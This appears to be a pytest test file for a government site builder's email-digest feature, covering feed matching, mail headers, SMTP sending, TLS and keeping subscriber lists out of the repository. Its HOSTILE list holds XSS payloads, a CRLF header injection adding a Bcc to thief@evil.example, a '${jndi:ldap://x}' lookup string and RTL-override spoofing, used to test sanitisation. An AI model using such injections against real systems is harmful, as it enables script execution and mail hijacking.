"""Digests: the same as the feeds, mail that a parser reads, sent by a real server, and no subscriber in the repository."""

from __future__ import annotations

import datetime
import email
import io
import json
import os
import re
import shutil
import ssl
import subprocess
from collections.abc import Iterator
from contextlib import redirect_stderr, redirect_stdout
from email.message import EmailMessage
from email.policy import default
from email.utils import parsedate_to_datetime
from html import unescape
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import AuthResult, Envelope

from jiyue.build.source_check import mail_findings
from jiyue.cli.app import application
from jiyue.digest import send as sending
from jiyue.digest.mail import mail
from jiyue.digest.markup import as_wechat, picture_list
from jiyue.digest.recipients import Inside, recipients
from jiyue.digest.select import Digest, Period, Section, period
from jiyue.registry.mail import PASSWORD, MailSettings, read_settings
from jiyue.render.pages.news import Item
from tests.support.cluster import Built, new_cluster
from tests.support.network import free_port
from tests.support.samples import png

NOW = "2026-11-23 08:00"
HOSTILE = [
    '</title><script>alert(1)</script>"><img src=x onerror=alert(2)>',
    "甲\r\nBcc: thief@evil.example\r\n\r\n<b>正文</b>",
    "{{ 7*7 }} ${jndi:ldap://x} \u202egnp.exe\u202c\ufeff",
    "=?utf-8?b?aGFjaw==?= & < > ' \" \x00\x1b[2J",
]


def text(title: str, date: str, more: str = "", body: str = "正文。") -> str:
    return f"---\ntitle: {json.dumps(title, ensure_ascii=False)}\ndate: {date}\n{more}---\n\n{body}\n"


FILES: dict[str, str | bytes] = {
    "sites/jilin.yaml": "name: 吉林省人民政府\nkind: province\nurl: https://www.jl.example\n"
    "columns: [{path: tzgg, name: 通知公告}, {path: yw, name: 要闻}]\n"
    "notice: {level: red, text: 暴雪红色预警, until: 2026-11-24}\n",
    "sites/mail.yaml": "sender: {name: 吉林省人民政府, address: dingyue@jl.example}\n"
    "unsubscribe: {mail: tuiding@jl.example, url: 'https://www.jl.example/t?m={address}'}\n"
    "server: {host: 127.0.0.1, port: 2525, tls: none}\n",
    "content/jilin/tzgg/a.md": text("关于供暖的通知", "2026-11-20 09:30", "summary: 供暖安排\nkeywords: [供暖]\n", "![图](p.png)"),
    "content/jilin/tzgg/p.png": png(),
    "content/jilin/tzgg/b.md": text("关于<b>供水</b>的通知 & 说明", "2026-11-21 10:00", "keywords: [供水]\n"),
    "content/jilin/yw/c.md": text("要闻一则", "2026-11-22 10:00"),
    "content/jilin/yw/d.md": text("持续更新", "2026-01-02 10:00", 'updates:\n  - {at: 2026-11-22 12:00, text: 又有进展}\n'),
    "content/jilin/yw/old.md": text("旧闻", "2026-11-01 10:00"),
    "content/jilin/yw/later.md": text("明天的事", "2026-11-24 10:00", "publish_at: 2026-11-24 10:00\n"),
    "content/jilin/yw/gone.md": text("撤下的", "2026-11-21 11:00", "withdraw: {at: 2026-11-22 08:00, reason: 更正}\n"),
    "content/jilin/about.md": text("单页", "2026-11-22 09:00"),
}  # fmt: skip


class Done(NamedTuple):
    returncode: int
    stdout: str
    stderr: str


def run(root: Path, *args: str) -> Done:
    """`jiyue digest`, in this process."""
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err), pytest.raises(SystemExit) as ended:
        application("digest")(["digest", *args, "--root", str(root), "--today", NOW.replace(" ", "T")])
    return Done(int(ended.value.code or 0), out.getvalue(), err.getvalue())


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    return new_cluster(tmp_path_factory.mktemp("digest"), FILES).build()


@pytest.fixture(scope="module")
def written(built: Built) -> Path:
    to = built.root / "zhaiyao"
    done = run(built.root, "jilin", "--since", "7d", "--to", str(to))
    assert (done.returncode, done.stderr) == (0, "")
    return to / "jilin"


def parsed(data: bytes) -> EmailMessage:
    message = email.message_from_bytes(data, policy=default)
    assert isinstance(message, EmailMessage)
    assert message.defects == []
    return message


def part(message: EmailMessage, kind: str) -> str:
    body = message.get_body((kind,))
    assert body is not None
    return str(body.get_content()).replace("\r\n", "\n")


def test_a_digest_has_what_the_feed_has_in_its_period(built: Built, written: Path) -> None:
    feed = json.loads(built.files()["jilin/feed.json"])
    wanted = {
        (i["title"], i["url"], i["date_published"][:10]) for i in feed["items"] if i["date_published"] >= "2026-11-16"
    }
    assert len(wanted) == 4
    message = parsed((written / "mail.eml").read_bytes())
    html = part(message, "html")
    found = re.findall(r'<a href="([^"]+)"[^>]*>(.*?)</a> <span[^>]*>(\S+)</span>', html)

    assert {(unescape(title), unescape(url), day) for url, title, day in found} == wanted
    plain = part(message, "plain")
    for title, url, day in wanted:
        assert f"{day}　{title}" in plain
        assert url in plain
    wechat = (written / "wechat.html").read_text(encoding="utf-8")
    assert all("【红色预警】暴雪红色预警" in shown for shown in (html, plain, wechat)), "the alert in force comes first"
    assert [word for word in ("旧闻", "明天的事", "撤下的", "单页") if word in html + plain] == []


def test_the_mail_is_one_that_programs_read(written: Path) -> None:
    data = (written / "mail.eml").read_bytes()
    message = parsed(data)
    assert message["Subject"] == "吉林省人民政府：2026年11月16日至2026年11月23日新发布4条"
    assert message["From"].addresses[0].addr_spec == "dingyue@jl.example"
    assert parsedate_to_datetime(message["Date"]) == datetime.datetime.fromisoformat("2026-11-23T08:00+08:00")
    assert message.get_content_type() == "multipart/alternative"
    assert [one.get_content_type() for one in message.iter_parts()] == ["text/plain", "text/html"]
    assert {one.get_content_charset() for one in message.iter_parts()} == {"utf-8"}
    assert all(len(line) <= 998 for line in data.split(b"\r\n"))
    assert data.isascii()
    assert message["Message-ID"].endswith("@jl.example>")
    assert re.findall(r"<(script|link|style|img|iframe)\b", part(message, "html")) == []


def test_the_same_digest_gives_the_same_bytes(built: Built, written: Path, tmp_path: Path) -> None:
    run(built.root, "jilin", "--to", str(tmp_path))
    for name in ("mail.eml", "wechat.html", "pictures.txt"):
        assert (tmp_path / "jilin" / name).read_bytes() == (written / name).read_bytes(), name


def test_what_wechat_keeps_and_nothing_else(written: Path) -> None:
    html = (written / "wechat.html").read_text(encoding="utf-8")
    assert {*re.findall(r"<([a-z0-9]+)", html)} == {"section", "p", "strong"}
    assert {*re.findall(r"\s([a-z-]+)=", html)} == {"style"}
    assert "https://www.jl.example/tzgg/" in html, "an address written out"
    assert "<a " not in html
    assert (written / "pictures.txt").read_text(
        encoding="utf-8"
    ) == "https://www.jl.example/tzgg/p.png\t关于供暖的通知\n"


def test_columns_topics_and_keywords(built: Built, tmp_path: Path) -> None:
    for n, (options, said) in enumerate(
        [
            (("--columns", "yw"), {"要闻一则", "最新进展：持续更新"}),
            (("--keyword", "供暖", "--keyword", "没有"), {"关于供暖的通知"}),
            (("--since", "2026-11-21", "--until", "2026-11-21"), {"关于<b>供水</b>的通知 & 说明"}),
        ]
    ):
        done = run(built.root, "jilin", *options, "--to", str(tmp_path / str(n)))
        assert done.returncode == 0, done.stderr
        body = part(parsed((tmp_path / str(n) / "jilin" / "mail.eml").read_bytes()), "plain")
        assert set(re.findall(r"^\d{4}-\d\d-\d\d　(.*)$", body, re.MULTILINE)) == said
    done = run(built.root, "jilin", "--topic", "没有", "--to", str(tmp_path / "none"))
    assert (done.returncode, list(tmp_path.glob("none/*"))) == (0, [])
    assert "没有符合条件的新稿件" in done.stdout


def made(*titles: str, name: str = "吉林省人民政府") -> Digest:
    items = [
        (Item(f"tag:{n}", f"https://www.jl.example/{n}.html?a=1&b=2", title, title, "2026-11-20 09:30", "", title), ["https://a/p.png"])
        for n, title in enumerate(titles)
    ]  # fmt: skip
    return Digest(
        "jilin", name, "https://www.jl.example", "zh-CN", Period("2026-11-16 00:00", NOW), [Section(titles[0], items)]
    )


def settings(**changes: Any) -> MailSettings:
    plain = {
        "sender": {"name": "吉林省人民政府", "address": "dingyue@jl.example"},
        "unsubscribe": {"mail": "tuiding@jl.example", "url": "https://www.jl.example/t?m={address}"},
        "server": {"host": "127.0.0.1", "port": 1, "tls": "none"},
    }
    return MailSettings.model_validate({**plain, **changes})


def lines_of(path: Path) -> list[str]:
    return [line for line in path.read_text(encoding="utf-8", errors="replace").splitlines() if line and line[0] != "#"]


def test_hostile_titles_and_names_change_no_header_and_no_markup() -> None:
    folder = os.environ.get("JIYUE_REAL_TEXTS")
    more = []
    for name in ("blns.txt", "xss-payloads.txt"):
        path = Path(folder or "", "hostile", name)
        more += lines_of(path)[:400] if folder and path.is_file() else []
    for titles in (HOSTILE, more or HOSTILE):
        digest = made(*titles, name=titles[0] + HOSTILE[1])
        message = parsed(mail(digest, settings(), NOW, "a@b.example").as_bytes())
        assert set(message.keys()) == {
            "Subject", "Date", "From", "List-Id", "List-Unsubscribe", "List-Unsubscribe-Post", "To", "Message-ID",
            "Content-Language", "Auto-Submitted", "Content-Type", "MIME-Version",
        }  # fmt: skip
        assert "Bcc" not in message
        html = part(message, "html")
        allowed = {"html", "head", "meta", "title", "body", "div", "h1", "h2", "p", "a", "span"}
        assert {*re.findall(r"<([A-Za-z!][A-Za-z0-9]*)", html)} <= {*allowed, "!DOCTYPE"}
        assert {*re.findall(r"<([A-Za-z!][A-Za-z0-9]*)", as_wechat(digest))} <= {"section", "p", "strong"}
        assert not re.search(r"[\u202a-\u202e\x00-\x08\x1b]", html + as_wechat(digest) + part(message, "plain"))
        assert picture_list(digest).count("\n") == len(titles), "one line a picture, whatever its title"


def test_how_to_cancel_is_in_the_headers() -> None:
    message = parsed(mail(made("甲"), settings(), NOW, "a+b@c.example").as_bytes())
    assert (
        message["List-Unsubscribe"]
        == "<https://www.jl.example/t?m=a%2Bb%40c.example>, <mailto:tuiding@jl.example?subject=unsubscribe>"
    )
    assert message["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    only_mail = parsed(mail(made("甲"), settings(unsubscribe={"mail": "t@jl.example"}), NOW, "a@c.example").as_bytes())
    assert "List-Unsubscribe-Post" not in only_mail
    assert "给 t@jl.example 发一封邮件即可退订" in part(only_mail, "plain")
    draft = parsed(mail(made("甲"), None, NOW).as_bytes())
    assert (draft["X-Unsent"], draft["From"]) == ("1", None)


class Received:
    """What a server got: recipients and bytes. refuse: recipients that it doesn't know."""

    def __init__(self, refuse: tuple[str, ...] = ()) -> None:
        self.mails: list[tuple[list[str], bytes]] = []
        self.refuse = refuse

    async def handle_RCPT(self, server: Any, session: Any, envelope: Envelope, address: str, options: Any) -> str:
        if address in self.refuse:
            return "550 no such user"
        envelope.rcpt_tos.append(address)
        return "250 OK"

    async def handle_DATA(self, server: Any, session: Any, envelope: Envelope) -> str:
        assert isinstance(envelope.content, bytes)
        self.mails.append((list(envelope.rcpt_tos), envelope.content))
        return "250 OK"


@pytest.fixture
def server() -> Iterator[tuple[Received, int]]:
    received = Received(refuse=("nobody@c.example",))
    controller = Controller(received, hostname="127.0.0.1", port=free_port())
    controller.start()
    try:
        assert controller.server is not None
        yield received, controller.server.sockets[0].getsockname()[1]
    finally:
        controller.stop()


def test_every_recipient_gets_a_mail_of_his_own(built: Built, server: tuple[Received, int], tmp_path: Path) -> None:
    received, port = server
    conf = tmp_path / "mail.yaml"
    conf.write_text(str(FILES["sites/mail.yaml"]).replace("2525", str(port)), encoding="utf-8")
    names = tmp_path / "mingdan.txt"
    names.write_text(
        "# 名单\nzhang@c.example\nnobody@c.example\nli@c.example  # 科室\nzhang@c.example\n", encoding="utf-8"
    )
    done = run(built.root, "jilin", "--send", "--settings", str(conf), "--recipients", str(names))
    assert done.returncode == 1, "one was refused"
    assert "发出 2 封，未发出 1 封" in done.stdout
    assert (tmp_path / "mingdan.txt.jilin.rest").read_text() == "nobody@c.example  # 服务器拒收（550）\n"
    assert [to for to, _ in received.mails] == [["zhang@c.example"], ["li@c.example"]]
    for to, data in received.mails:
        message = parsed(data)
        assert [one.addr_spec for one in message["To"].addresses] == to
        assert "要闻一则" in part(message, "html")
    ids = {parsed(data)["Message-ID"] for _, data in received.mails}
    assert len(ids) == 2
    run(built.root, "jilin", "--send", "--settings", str(conf), "--recipients", str(names))
    assert {parsed(data)["Message-ID"] for _, data in received.mails} == ids, "sent twice, known as the same"
    assert not [name for name, data in built.files().items() if b"zhang@c.example" in data]


def test_a_list_inside_the_repository_is_refused(tmp_path: Path) -> None:
    """Also by a link from outside, and in any folder of the repository that the cluster lies in."""
    root = tmp_path / "repo" / "cluster"
    root.mkdir(parents=True)
    (tmp_path / "repo" / ".git").mkdir()
    inside = tmp_path / "repo" / "names.txt"
    inside.write_text("a@b.example\n")
    outside = tmp_path / "names.txt"
    outside.symlink_to(inside)
    for path in (inside, outside, root / ".." / "names.txt"):
        with pytest.raises(Inside, match="订阅者的个人信息不能进仓库"):
            recipients(path, root)
    outside.unlink()
    outside.write_text("甲@b.example\n a@b.example \nb@@c\nx@y.example\nBcc: z@y.example\n")
    assert recipients(outside, root) == (["a@b.example", "x@y.example"], [1, 3, 5])
    shutil.rmtree(tmp_path / "repo" / ".git")
    with pytest.raises(Inside):
        recipients(root / "n.txt", root)


def test_tls_is_required_and_the_certificate_is_checked(server: tuple[Received, int], tmp_path: Path) -> None:
    _, port = server
    plain = settings(server={"host": "127.0.0.1", "port": port}).server
    assert plain is not None
    with pytest.raises(sending.NotSent, match="不支持要求的加密"):
        sending.connect(plain, tmp_path)
    with pytest.raises(ValueError, match="只能用于本机的服务器"):
        settings(server={"host": "mail.example", "tls": "none"})


@pytest.mark.skipif(not shutil.which("openssl"), reason="openssl makes the certificate")
def test_an_encrypted_session_with_a_password(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sending, "PATIENCE", 2.0)  # the server says nothing after a wrong password
    key, certificate = tmp_path / "key.pem", tmp_path / "ca.pem"
    command = [
        "openssl",
        "req",
        "-x509",
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:prime256v1",
        "-nodes",
        "-days",
        "2",
    ]
    command += [
        "-subj",
        "/CN=localhost",
        "-addext",
        "subjectAltName=DNS:localhost",
        "-keyout",
        str(key),
        "-out",
        str(certificate),
    ]
    subprocess.run(command, check=True, capture_output=True)
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(certificate, key)
    received = Received()

    def knows(server: Any, session: Any, envelope: Any, mechanism: Any, data: Any) -> AuthResult:
        return AuthResult(success=(data.login, data.password) == (b"dingyue", b"s3cret"))

    controller = Controller(
        received,
        hostname="localhost",
        port=free_port(),
        tls_context=context,
        require_starttls=True,
        auth_required=True,
        authenticator=knows,
    )
    controller.start()
    try:
        assert controller.server is not None
        port = controller.server.sockets[0].getsockname()[1]
        given = settings(server={"host": "localhost", "port": port, "ca": "ca.pem", "user": "dingyue"})
        assert given.server is not None
        with sending.connect(given.server, tmp_path, {PASSWORD: "s3cret"}) as session:
            assert sending.send(session, made("甲"), given, NOW, ["a@b.example"]) == (1, {})
        for environ, said in (({PASSWORD: "wrong"}, "不认登录名或口令"), ({}, f"没有设置环境变量 {PASSWORD}")):
            with pytest.raises(sending.NotSent, match=said):
                sending.connect(given.server, tmp_path, environ)
        unknown = settings(server={"host": "localhost", "port": port}).server
        assert unknown is not None
        with pytest.raises(sending.NotSent, match="证书没有通过验证"):
            sending.connect(unknown, tmp_path)
    finally:
        controller.stop()
    assert len(received.mails) == 1


@pytest.mark.parametrize(
    ("written", "line", "said"),
    [
        ("sender: {name: 甲, address: 不是邮箱}\n", 1, "应为邮箱地址"),
        ("sender: {name: 甲, address: a@b.example}\nserver:\n  host: a.example\n  password: x\n", 4, "password"),
        ("sender: {name: 甲, address: a@b.example}\nunsubscribe: {}\n", 2, "写退订的邮箱 mail，或网址 url"),
        (
            "sender: {name: 甲, address: a@b.example}\nunsubscribe: {url: 'http://a.example'}\n",
            2,
            "应为 https 开头的网址",
        ),
        ("sender: [\n", 1, ""),
        ("", 1, "文件是空的"),
    ],
)
def test_settings_that_are_wrong_say_where(tmp_path: Path, written: str, line: int, said: str) -> None:
    path = tmp_path / "mail.yaml"
    path.write_text(written, encoding="utf-8")
    read, problems = read_settings(path, "sites/mail.yaml")
    assert read is None
    assert any(said in f"{one.message}{one.hint}" for one in problems), problems
    if said:
        assert line in [one.line for one in problems], problems


def test_check_looks_at_the_settings_too(built: Built) -> None:
    """So that no password reaches the repository unseen."""
    assert mail_findings(built.root) == []
    path = built.root / "sites" / "mail.yaml"
    kept = path.read_text(encoding="utf-8")
    path.write_text(kept.replace("port: 2525", "password: geheim"), encoding="utf-8")
    [found] = mail_findings(built.root)
    path.write_text(kept, encoding="utf-8")
    assert (found.rule, found.path, found.line) == ("mail-settings", "sites/mail.yaml", 3)
    assert "geheim" not in f"{found.message}{found.hint}"


def test_what_a_period_is() -> None:
    assert period("7d", "", NOW) == Period("2026-11-16 08:00", NOW)
    assert period("2026-11-20", "2026-11-21", NOW) == Period("2026-11-20 00:00", "2026-11-21 23:59")
    assert period("2026-11-20", "2026-12-31", NOW) == Period("2026-11-20 00:00", NOW), "nothing later than now"
    for since, until in (("昨天", ""), ("2026-11-20", "2026-11-19"), ("2026-12-01", ""), ("d", ""), ("7d", "x")):
        assert period(since, until, NOW) is None


def test_a_long_address_to_unsubscribe_stays_whole() -> None:
    sent = mail(made("甲"), settings(), NOW, "a" * 60 + "@" + "b" * 60 + ".example").as_bytes()
    [line] = [line for line in sent.splitlines() if line.startswith(b"List-Unsubscribe: ")]
    assert line.startswith(b"List-Unsubscribe: <https://www.jl.example/t?m=aaa") and line.endswith(
        b"subject=unsubscribe>"
    )
    assert max(map(len, sent.splitlines())) < 998  # RFC 5322


def test_a_list_beside_the_repository_is_outside_however_it_is_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "repo"
    root.mkdir()
    (tmp_path / "list.txt").write_text("a@b.example\n")
    monkeypatch.chdir(root)
    assert recipients(Path("../list.txt"), root) == (["a@b.example"], [])
    (tmp_path / "alias").symlink_to(root)
    (root / "list.txt").symlink_to(tmp_path / "list.txt")
    with pytest.raises(Inside):
        recipients(tmp_path / "alias" / "list.txt", root)
